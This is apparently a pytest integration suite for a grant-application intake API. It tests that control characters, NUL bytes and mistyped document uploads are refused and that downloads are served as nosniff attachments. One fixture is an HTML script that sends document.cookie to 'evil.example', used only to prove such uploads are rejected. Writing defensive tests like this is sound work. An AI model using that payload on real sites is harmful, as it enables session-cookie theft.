"""Hostile input at the intake edge, against the real PostgreSQL (issue 13, items 1 and 7).

Text a person cannot have written (NUL and other control characters) is refused with a 422
naming the field, in every body and parameter that carries text, and records nothing: an
event holding a NUL cannot be stored by the read side. A document must be what its
Content-Type says, and is served back as an attachment the browser does not sniff.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import unquote

import asyncpg
import httpx
import pytest
from test_intake_applications import (  # the intake API's fixtures and sample bodies
    applicant,
    application,
    call_body,
    call_id,
    event_count,
    http,
    operator,
    submit,
)

from konkurs_intake.adapters.codec import content_to_pb
from konkurs_intake.api.bodies import ApplicationBody
from konkurs_platform.auth import Role, mint_token
from konkurs_platform.settings import Settings

pytestmark = pytest.mark.integration

__all__ = ["applicant", "call_id", "http", "operator"]  # fixtures, used by name

Change = Callable[[dict[str, Any]], None]


def _set(path: str, value: str) -> Change:
    """A change that puts `value` at the JSON pointer `path` of an application body."""

    def change(body: dict[str, Any]) -> None:
        *parents, last = path.strip("/").split("/")
        node: Any = body
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node[key]
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return change


def _with_document(body: dict[str, Any]) -> None:
    body["documents"] = [
        {
            "kind": "charter",
            "filename": "charter.pdf",
            "media_type": "application/pdf",
            "size_bytes": 10,
            "sha256": "a" * 64,
        }
    ]


TEXT_FIELDS = [
    "/cluster/name",
    "/cluster/description",
    "/coordinator/name",
    "/participants/1/name",
    "/strategy_summary",
    "/requested_support/0/description",
    "/contact/name",
    "/contact/email",
    "/coordinator/bin",
    "/cluster/specialisation_oked_codes/0",
]


def _pointers(answer: httpx.Response) -> list[str]:
    return [e.get("pointer") for e in answer.json().get("errors", [])]


@pytest.mark.parametrize("pointer", TEXT_FIELDS)
async def test_a_nul_in_any_text_field_is_refused_naming_the_field_and_records_nothing(
    http: httpx.AsyncClient,
    call_id: str,
    applicant: dict[str, str],
    pool: asyncpg.Pool,
    pointer: str,
) -> None:
    body = application()
    _set(pointer, "a\x00b@example.kz" if pointer == "/contact/email" else "Өрнек\x00кластер")(body)
    answer = await submit(http, call_id, applicant, body)
    assert answer.status_code == 422, answer.text
    assert pointer in _pointers(answer)
    assert "U+0000" in answer.text
    assert await event_count(pool, call_id) == 0


async def test_a_nul_in_a_declared_document_filename_is_refused(
    http: httpx.AsyncClient, call_id: str, applicant: dict[str, str], pool: asyncpg.Pool
) -> None:
    body = application()
    _with_document(body)
    body["documents"][0]["filename"] = "charter\x00.pdf"
    answer = await submit(http, call_id, applicant, body)
    assert answer.status_code == 422 and _pointers(answer) == ["/documents/0/filename"]
    assert await event_count(pool, call_id) == 0


@pytest.mark.parametrize("character", ["\x01", "\x07", "\x1b", "\x7f", "\x85", "\x9b"])
async def test_other_control_characters_are_refused_in_free_text_too(
    http: httpx.AsyncClient,
    call_id: str,
    applicant: dict[str, str],
    pool: asyncpg.Pool,
    character: str,
) -> None:
    body = application()
    body["strategy_summary"] = f"Стратегия{character}"
    answer = await submit(http, call_id, applicant, body)
    assert answer.status_code == 422 and _pointers(answer) == ["/strategy_summary"]
    assert await event_count(pool, call_id) == 0


async def test_line_breaks_and_tabs_are_kept_in_free_text_but_not_in_a_name(
    http: httpx.AsyncClient, call_id: str, applicant: dict[str, str]
) -> None:
    body = application()
    body["strategy_summary"] = "Мақсаттар:\n\t1. Экспорт\r\n\t2. Ғылым"
    body["cluster"]["description"] = "Бірінші жол\nЕкінші жол"
    answer = await submit(http, call_id, applicant, body)
    assert answer.status_code == 201, answer.text
    read = await http.get(f"/v1/applications/{answer.json()['application_id']}", headers=applicant)
    assert read.json()["content"]["strategy_summary"] == body["strategy_summary"]
    named = application()
    named["cluster"]["name"] = "Бірінші\nЕкінші"
    refused = await submit(http, call_id, applicant, named)
    assert refused.status_code == 422 and _pointers(refused) == ["/cluster/name"]


async def test_a_nul_in_a_protobuf_body_is_refused_naming_the_field(
    http: httpx.AsyncClient, call_id: str, applicant: dict[str, str], pool: asyncpg.Pool
) -> None:
    message = content_to_pb(ApplicationBody.model_validate(application()).domain())
    message.participants[0].name = "ТОО\x00"
    answer = await http.post(
        f"/v1/calls/{call_id}/applications",
        content=message.SerializeToString(),
        headers={**applicant, "Content-Type": "application/x-protobuf"},
    )
    assert answer.status_code == 422 and _pointers(answer) == ["/participants/0/name"]
    assert await event_count(pool, call_id) == 0


async def test_a_nul_in_a_batch_line_refuses_that_line_alone(
    http: httpx.AsyncClient, call_id: str, settings: Settings, pool: asyncpg.Pool
) -> None:
    regional = {
        "Authorization": "Bearer "
        + mint_token(settings, Role.REGIONAL_OPERATOR, "test-regional", region="KZ-75")
    }
    poisoned = application()
    poisoned["contact"]["name"] = "Әлия\x00"
    lines = [json.dumps(application()), json.dumps(poisoned), json.dumps(application())]
    answer = await http.post(
        f"/v1/calls/{call_id}/applications:batch",
        content="\n".join(lines).encode(),
        headers={**regional, "Content-Type": "application/x-ndjson"},
    )
    results = [json.loads(line) for line in answer.text.splitlines()]
    assert [r["status"] for r in results] == [201, 422, 201]
    assert [e["pointer"] for e in results[1]["problem"]["errors"]] == ["/contact/name"]
    assert await event_count(pool, call_id) == 2


@pytest.mark.parametrize(
    ("change", "pointer"),
    [
        (lambda b: b["title"].update(ru="Отбор\x00"), "/title/ru"),
        (lambda b: b.update(programme="clusters\x00"), "/programme"),
        (lambda b: b["methodology"]["criteria"][0]["name"].update(en="S\x1b[2J"), None),
        (lambda b: b.update(description={"en": "Line one\nline two\x00"}), "/description/en"),
    ],
)
async def test_a_call_with_a_control_character_in_its_text_is_refused(
    http: httpx.AsyncClient,
    operator: dict[str, str],
    pool: asyncpg.Pool,
    change: Change,
    pointer: str | None,
) -> None:
    from datetime import UTC, datetime, timedelta

    now = datetime.now(UTC)
    body = call_body(f"t-nul-{now.timestamp():.0f}", now + timedelta(days=1), now + timedelta(2))
    change(body)
    answer = await http.post("/v1/calls", json=body, headers=operator)
    assert answer.status_code == 422, answer.text
    expected = pointer or "/methodology/criteria/0/name/en"
    assert _pointers(answer) == [expected]
    async with pool.acquire() as conn:
        stored = await conn.fetchval(
            "SELECT count(*) FROM intake.events WHERE stream_id = $1", f"call-{body['call_id']}"
        )
    assert stored == 0


async def test_a_withdrawal_reason_with_a_nul_is_refused_and_the_application_stands(
    http: httpx.AsyncClient, call_id: str, applicant: dict[str, str]
) -> None:
    created = (await submit(http, call_id, applicant)).json()
    url = f"/v1/applications/{created['application_id']}"
    answer = await http.post(
        f"{url}/withdrawal", json={"reason": "бас\x00тарту"}, headers=applicant
    )
    assert answer.status_code == 422 and _pointers(answer) == ["/reason"]
    assert (await http.get(url, headers=applicant)).json()["status"] == "submitted"


async def test_a_document_filename_with_a_nul_is_refused_naming_the_parameter(
    http: httpx.AsyncClient, call_id: str, applicant: dict[str, str]
) -> None:
    created = (await submit(http, call_id, applicant)).json()
    answer = await http.post(
        f"/v1/applications/{created['application_id']}/documents",
        params={"kind": "charter", "filename": "charter\x00.pdf"},
        content=b"%PDF-1.7\n",
        headers={**applicant, "Content-Type": "application/pdf"},
    )
    assert answer.status_code == 422, answer.text
    assert answer.json()["errors"][0]["parameter"] == "filename"
    view = (
        await http.get(f"/v1/applications/{created['application_id']}", headers=applicant)
    ).json()
    assert view["documents"] == []


@pytest.mark.parametrize("call", ["%00", "a%00b", "%C0%80", "x" * 300])
async def test_a_call_id_with_a_nul_or_overlong_in_the_path_is_a_4xx(
    http: httpx.AsyncClient, operator: dict[str, str], applicant: dict[str, str], call: str
) -> None:
    read = await http.get(f"/v1/calls/{call}", headers=operator)
    assert 400 <= read.status_code < 500, read.text
    posted = await http.post(
        f"/v1/calls/{call}/applications", json=application(), headers=applicant
    )
    assert 400 <= posted.status_code < 500, posted.text
    amended = await http.put(f"/v1/calls/{call}", json=call_body("x", *_window()), headers=operator)
    assert 400 <= amended.status_code < 500, amended.text


def _window() -> tuple[Any, Any]:
    from datetime import UTC, datetime, timedelta

    now = datetime.now(UTC)
    return now + timedelta(days=1), now + timedelta(days=2)


# Documents: the bytes must bear out the declared type; downloads are attachments -----------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
HTML = b"<!doctype html><script>document.location='https://evil.example/'+document.cookie</script>"


@pytest.mark.parametrize(
    ("content", "declared"),
    [
        (HTML, "image/png"),
        (HTML, "application/pdf"),
        (PNG, "image/jpeg"),
        (b"%PDF-1.7\n", "application/vnd.ms-excel"),
        (b"PK\x03\x04" + b"\x00" * 40, "application/pdf"),
    ],
)
async def test_a_document_whose_bytes_are_not_its_declared_type_is_refused(
    http: httpx.AsyncClient, call_id: str, applicant: dict[str, str], content: bytes, declared: str
) -> None:
    created = (await submit(http, call_id, applicant)).json()
    url = f"/v1/applications/{created['application_id']}"
    answer = await http.post(
        f"{url}/documents",
        params={"kind": "photo", "filename": "photo.png"},
        content=content,
        headers={**applicant, "Content-Type": declared},
    )
    assert answer.status_code == 422, answer.text
    assert answer.json()["type"].endswith("/document-type-mismatch")
    assert answer.json()["errors"][0]["parameter"] == "Content-Type"
    assert (await http.get(url, headers=applicant)).json()["documents"] == []


async def test_a_document_is_downloaded_as_a_nosniff_attachment_under_its_filename(
    http: httpx.AsyncClient, call_id: str, applicant: dict[str, str]
) -> None:
    created = (await submit(http, call_id, applicant)).json()
    url = f"/v1/applications/{created['application_id']}/documents"
    filed = await http.post(
        url,
        params={"kind": "photo", "filename": 'Сурет "1".png'},
        content=PNG,
        headers={**applicant, "Content-Type": "image/png"},
    )
    assert filed.status_code == 201, filed.text
    got = await http.get(f"{url}/{filed.json()['sha256']}", headers=applicant)
    assert got.content == PNG and got.headers["content-type"] == "image/png"
    assert got.headers["x-content-type-options"] == "nosniff"
    disposition = got.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == 'Сурет "1".png'
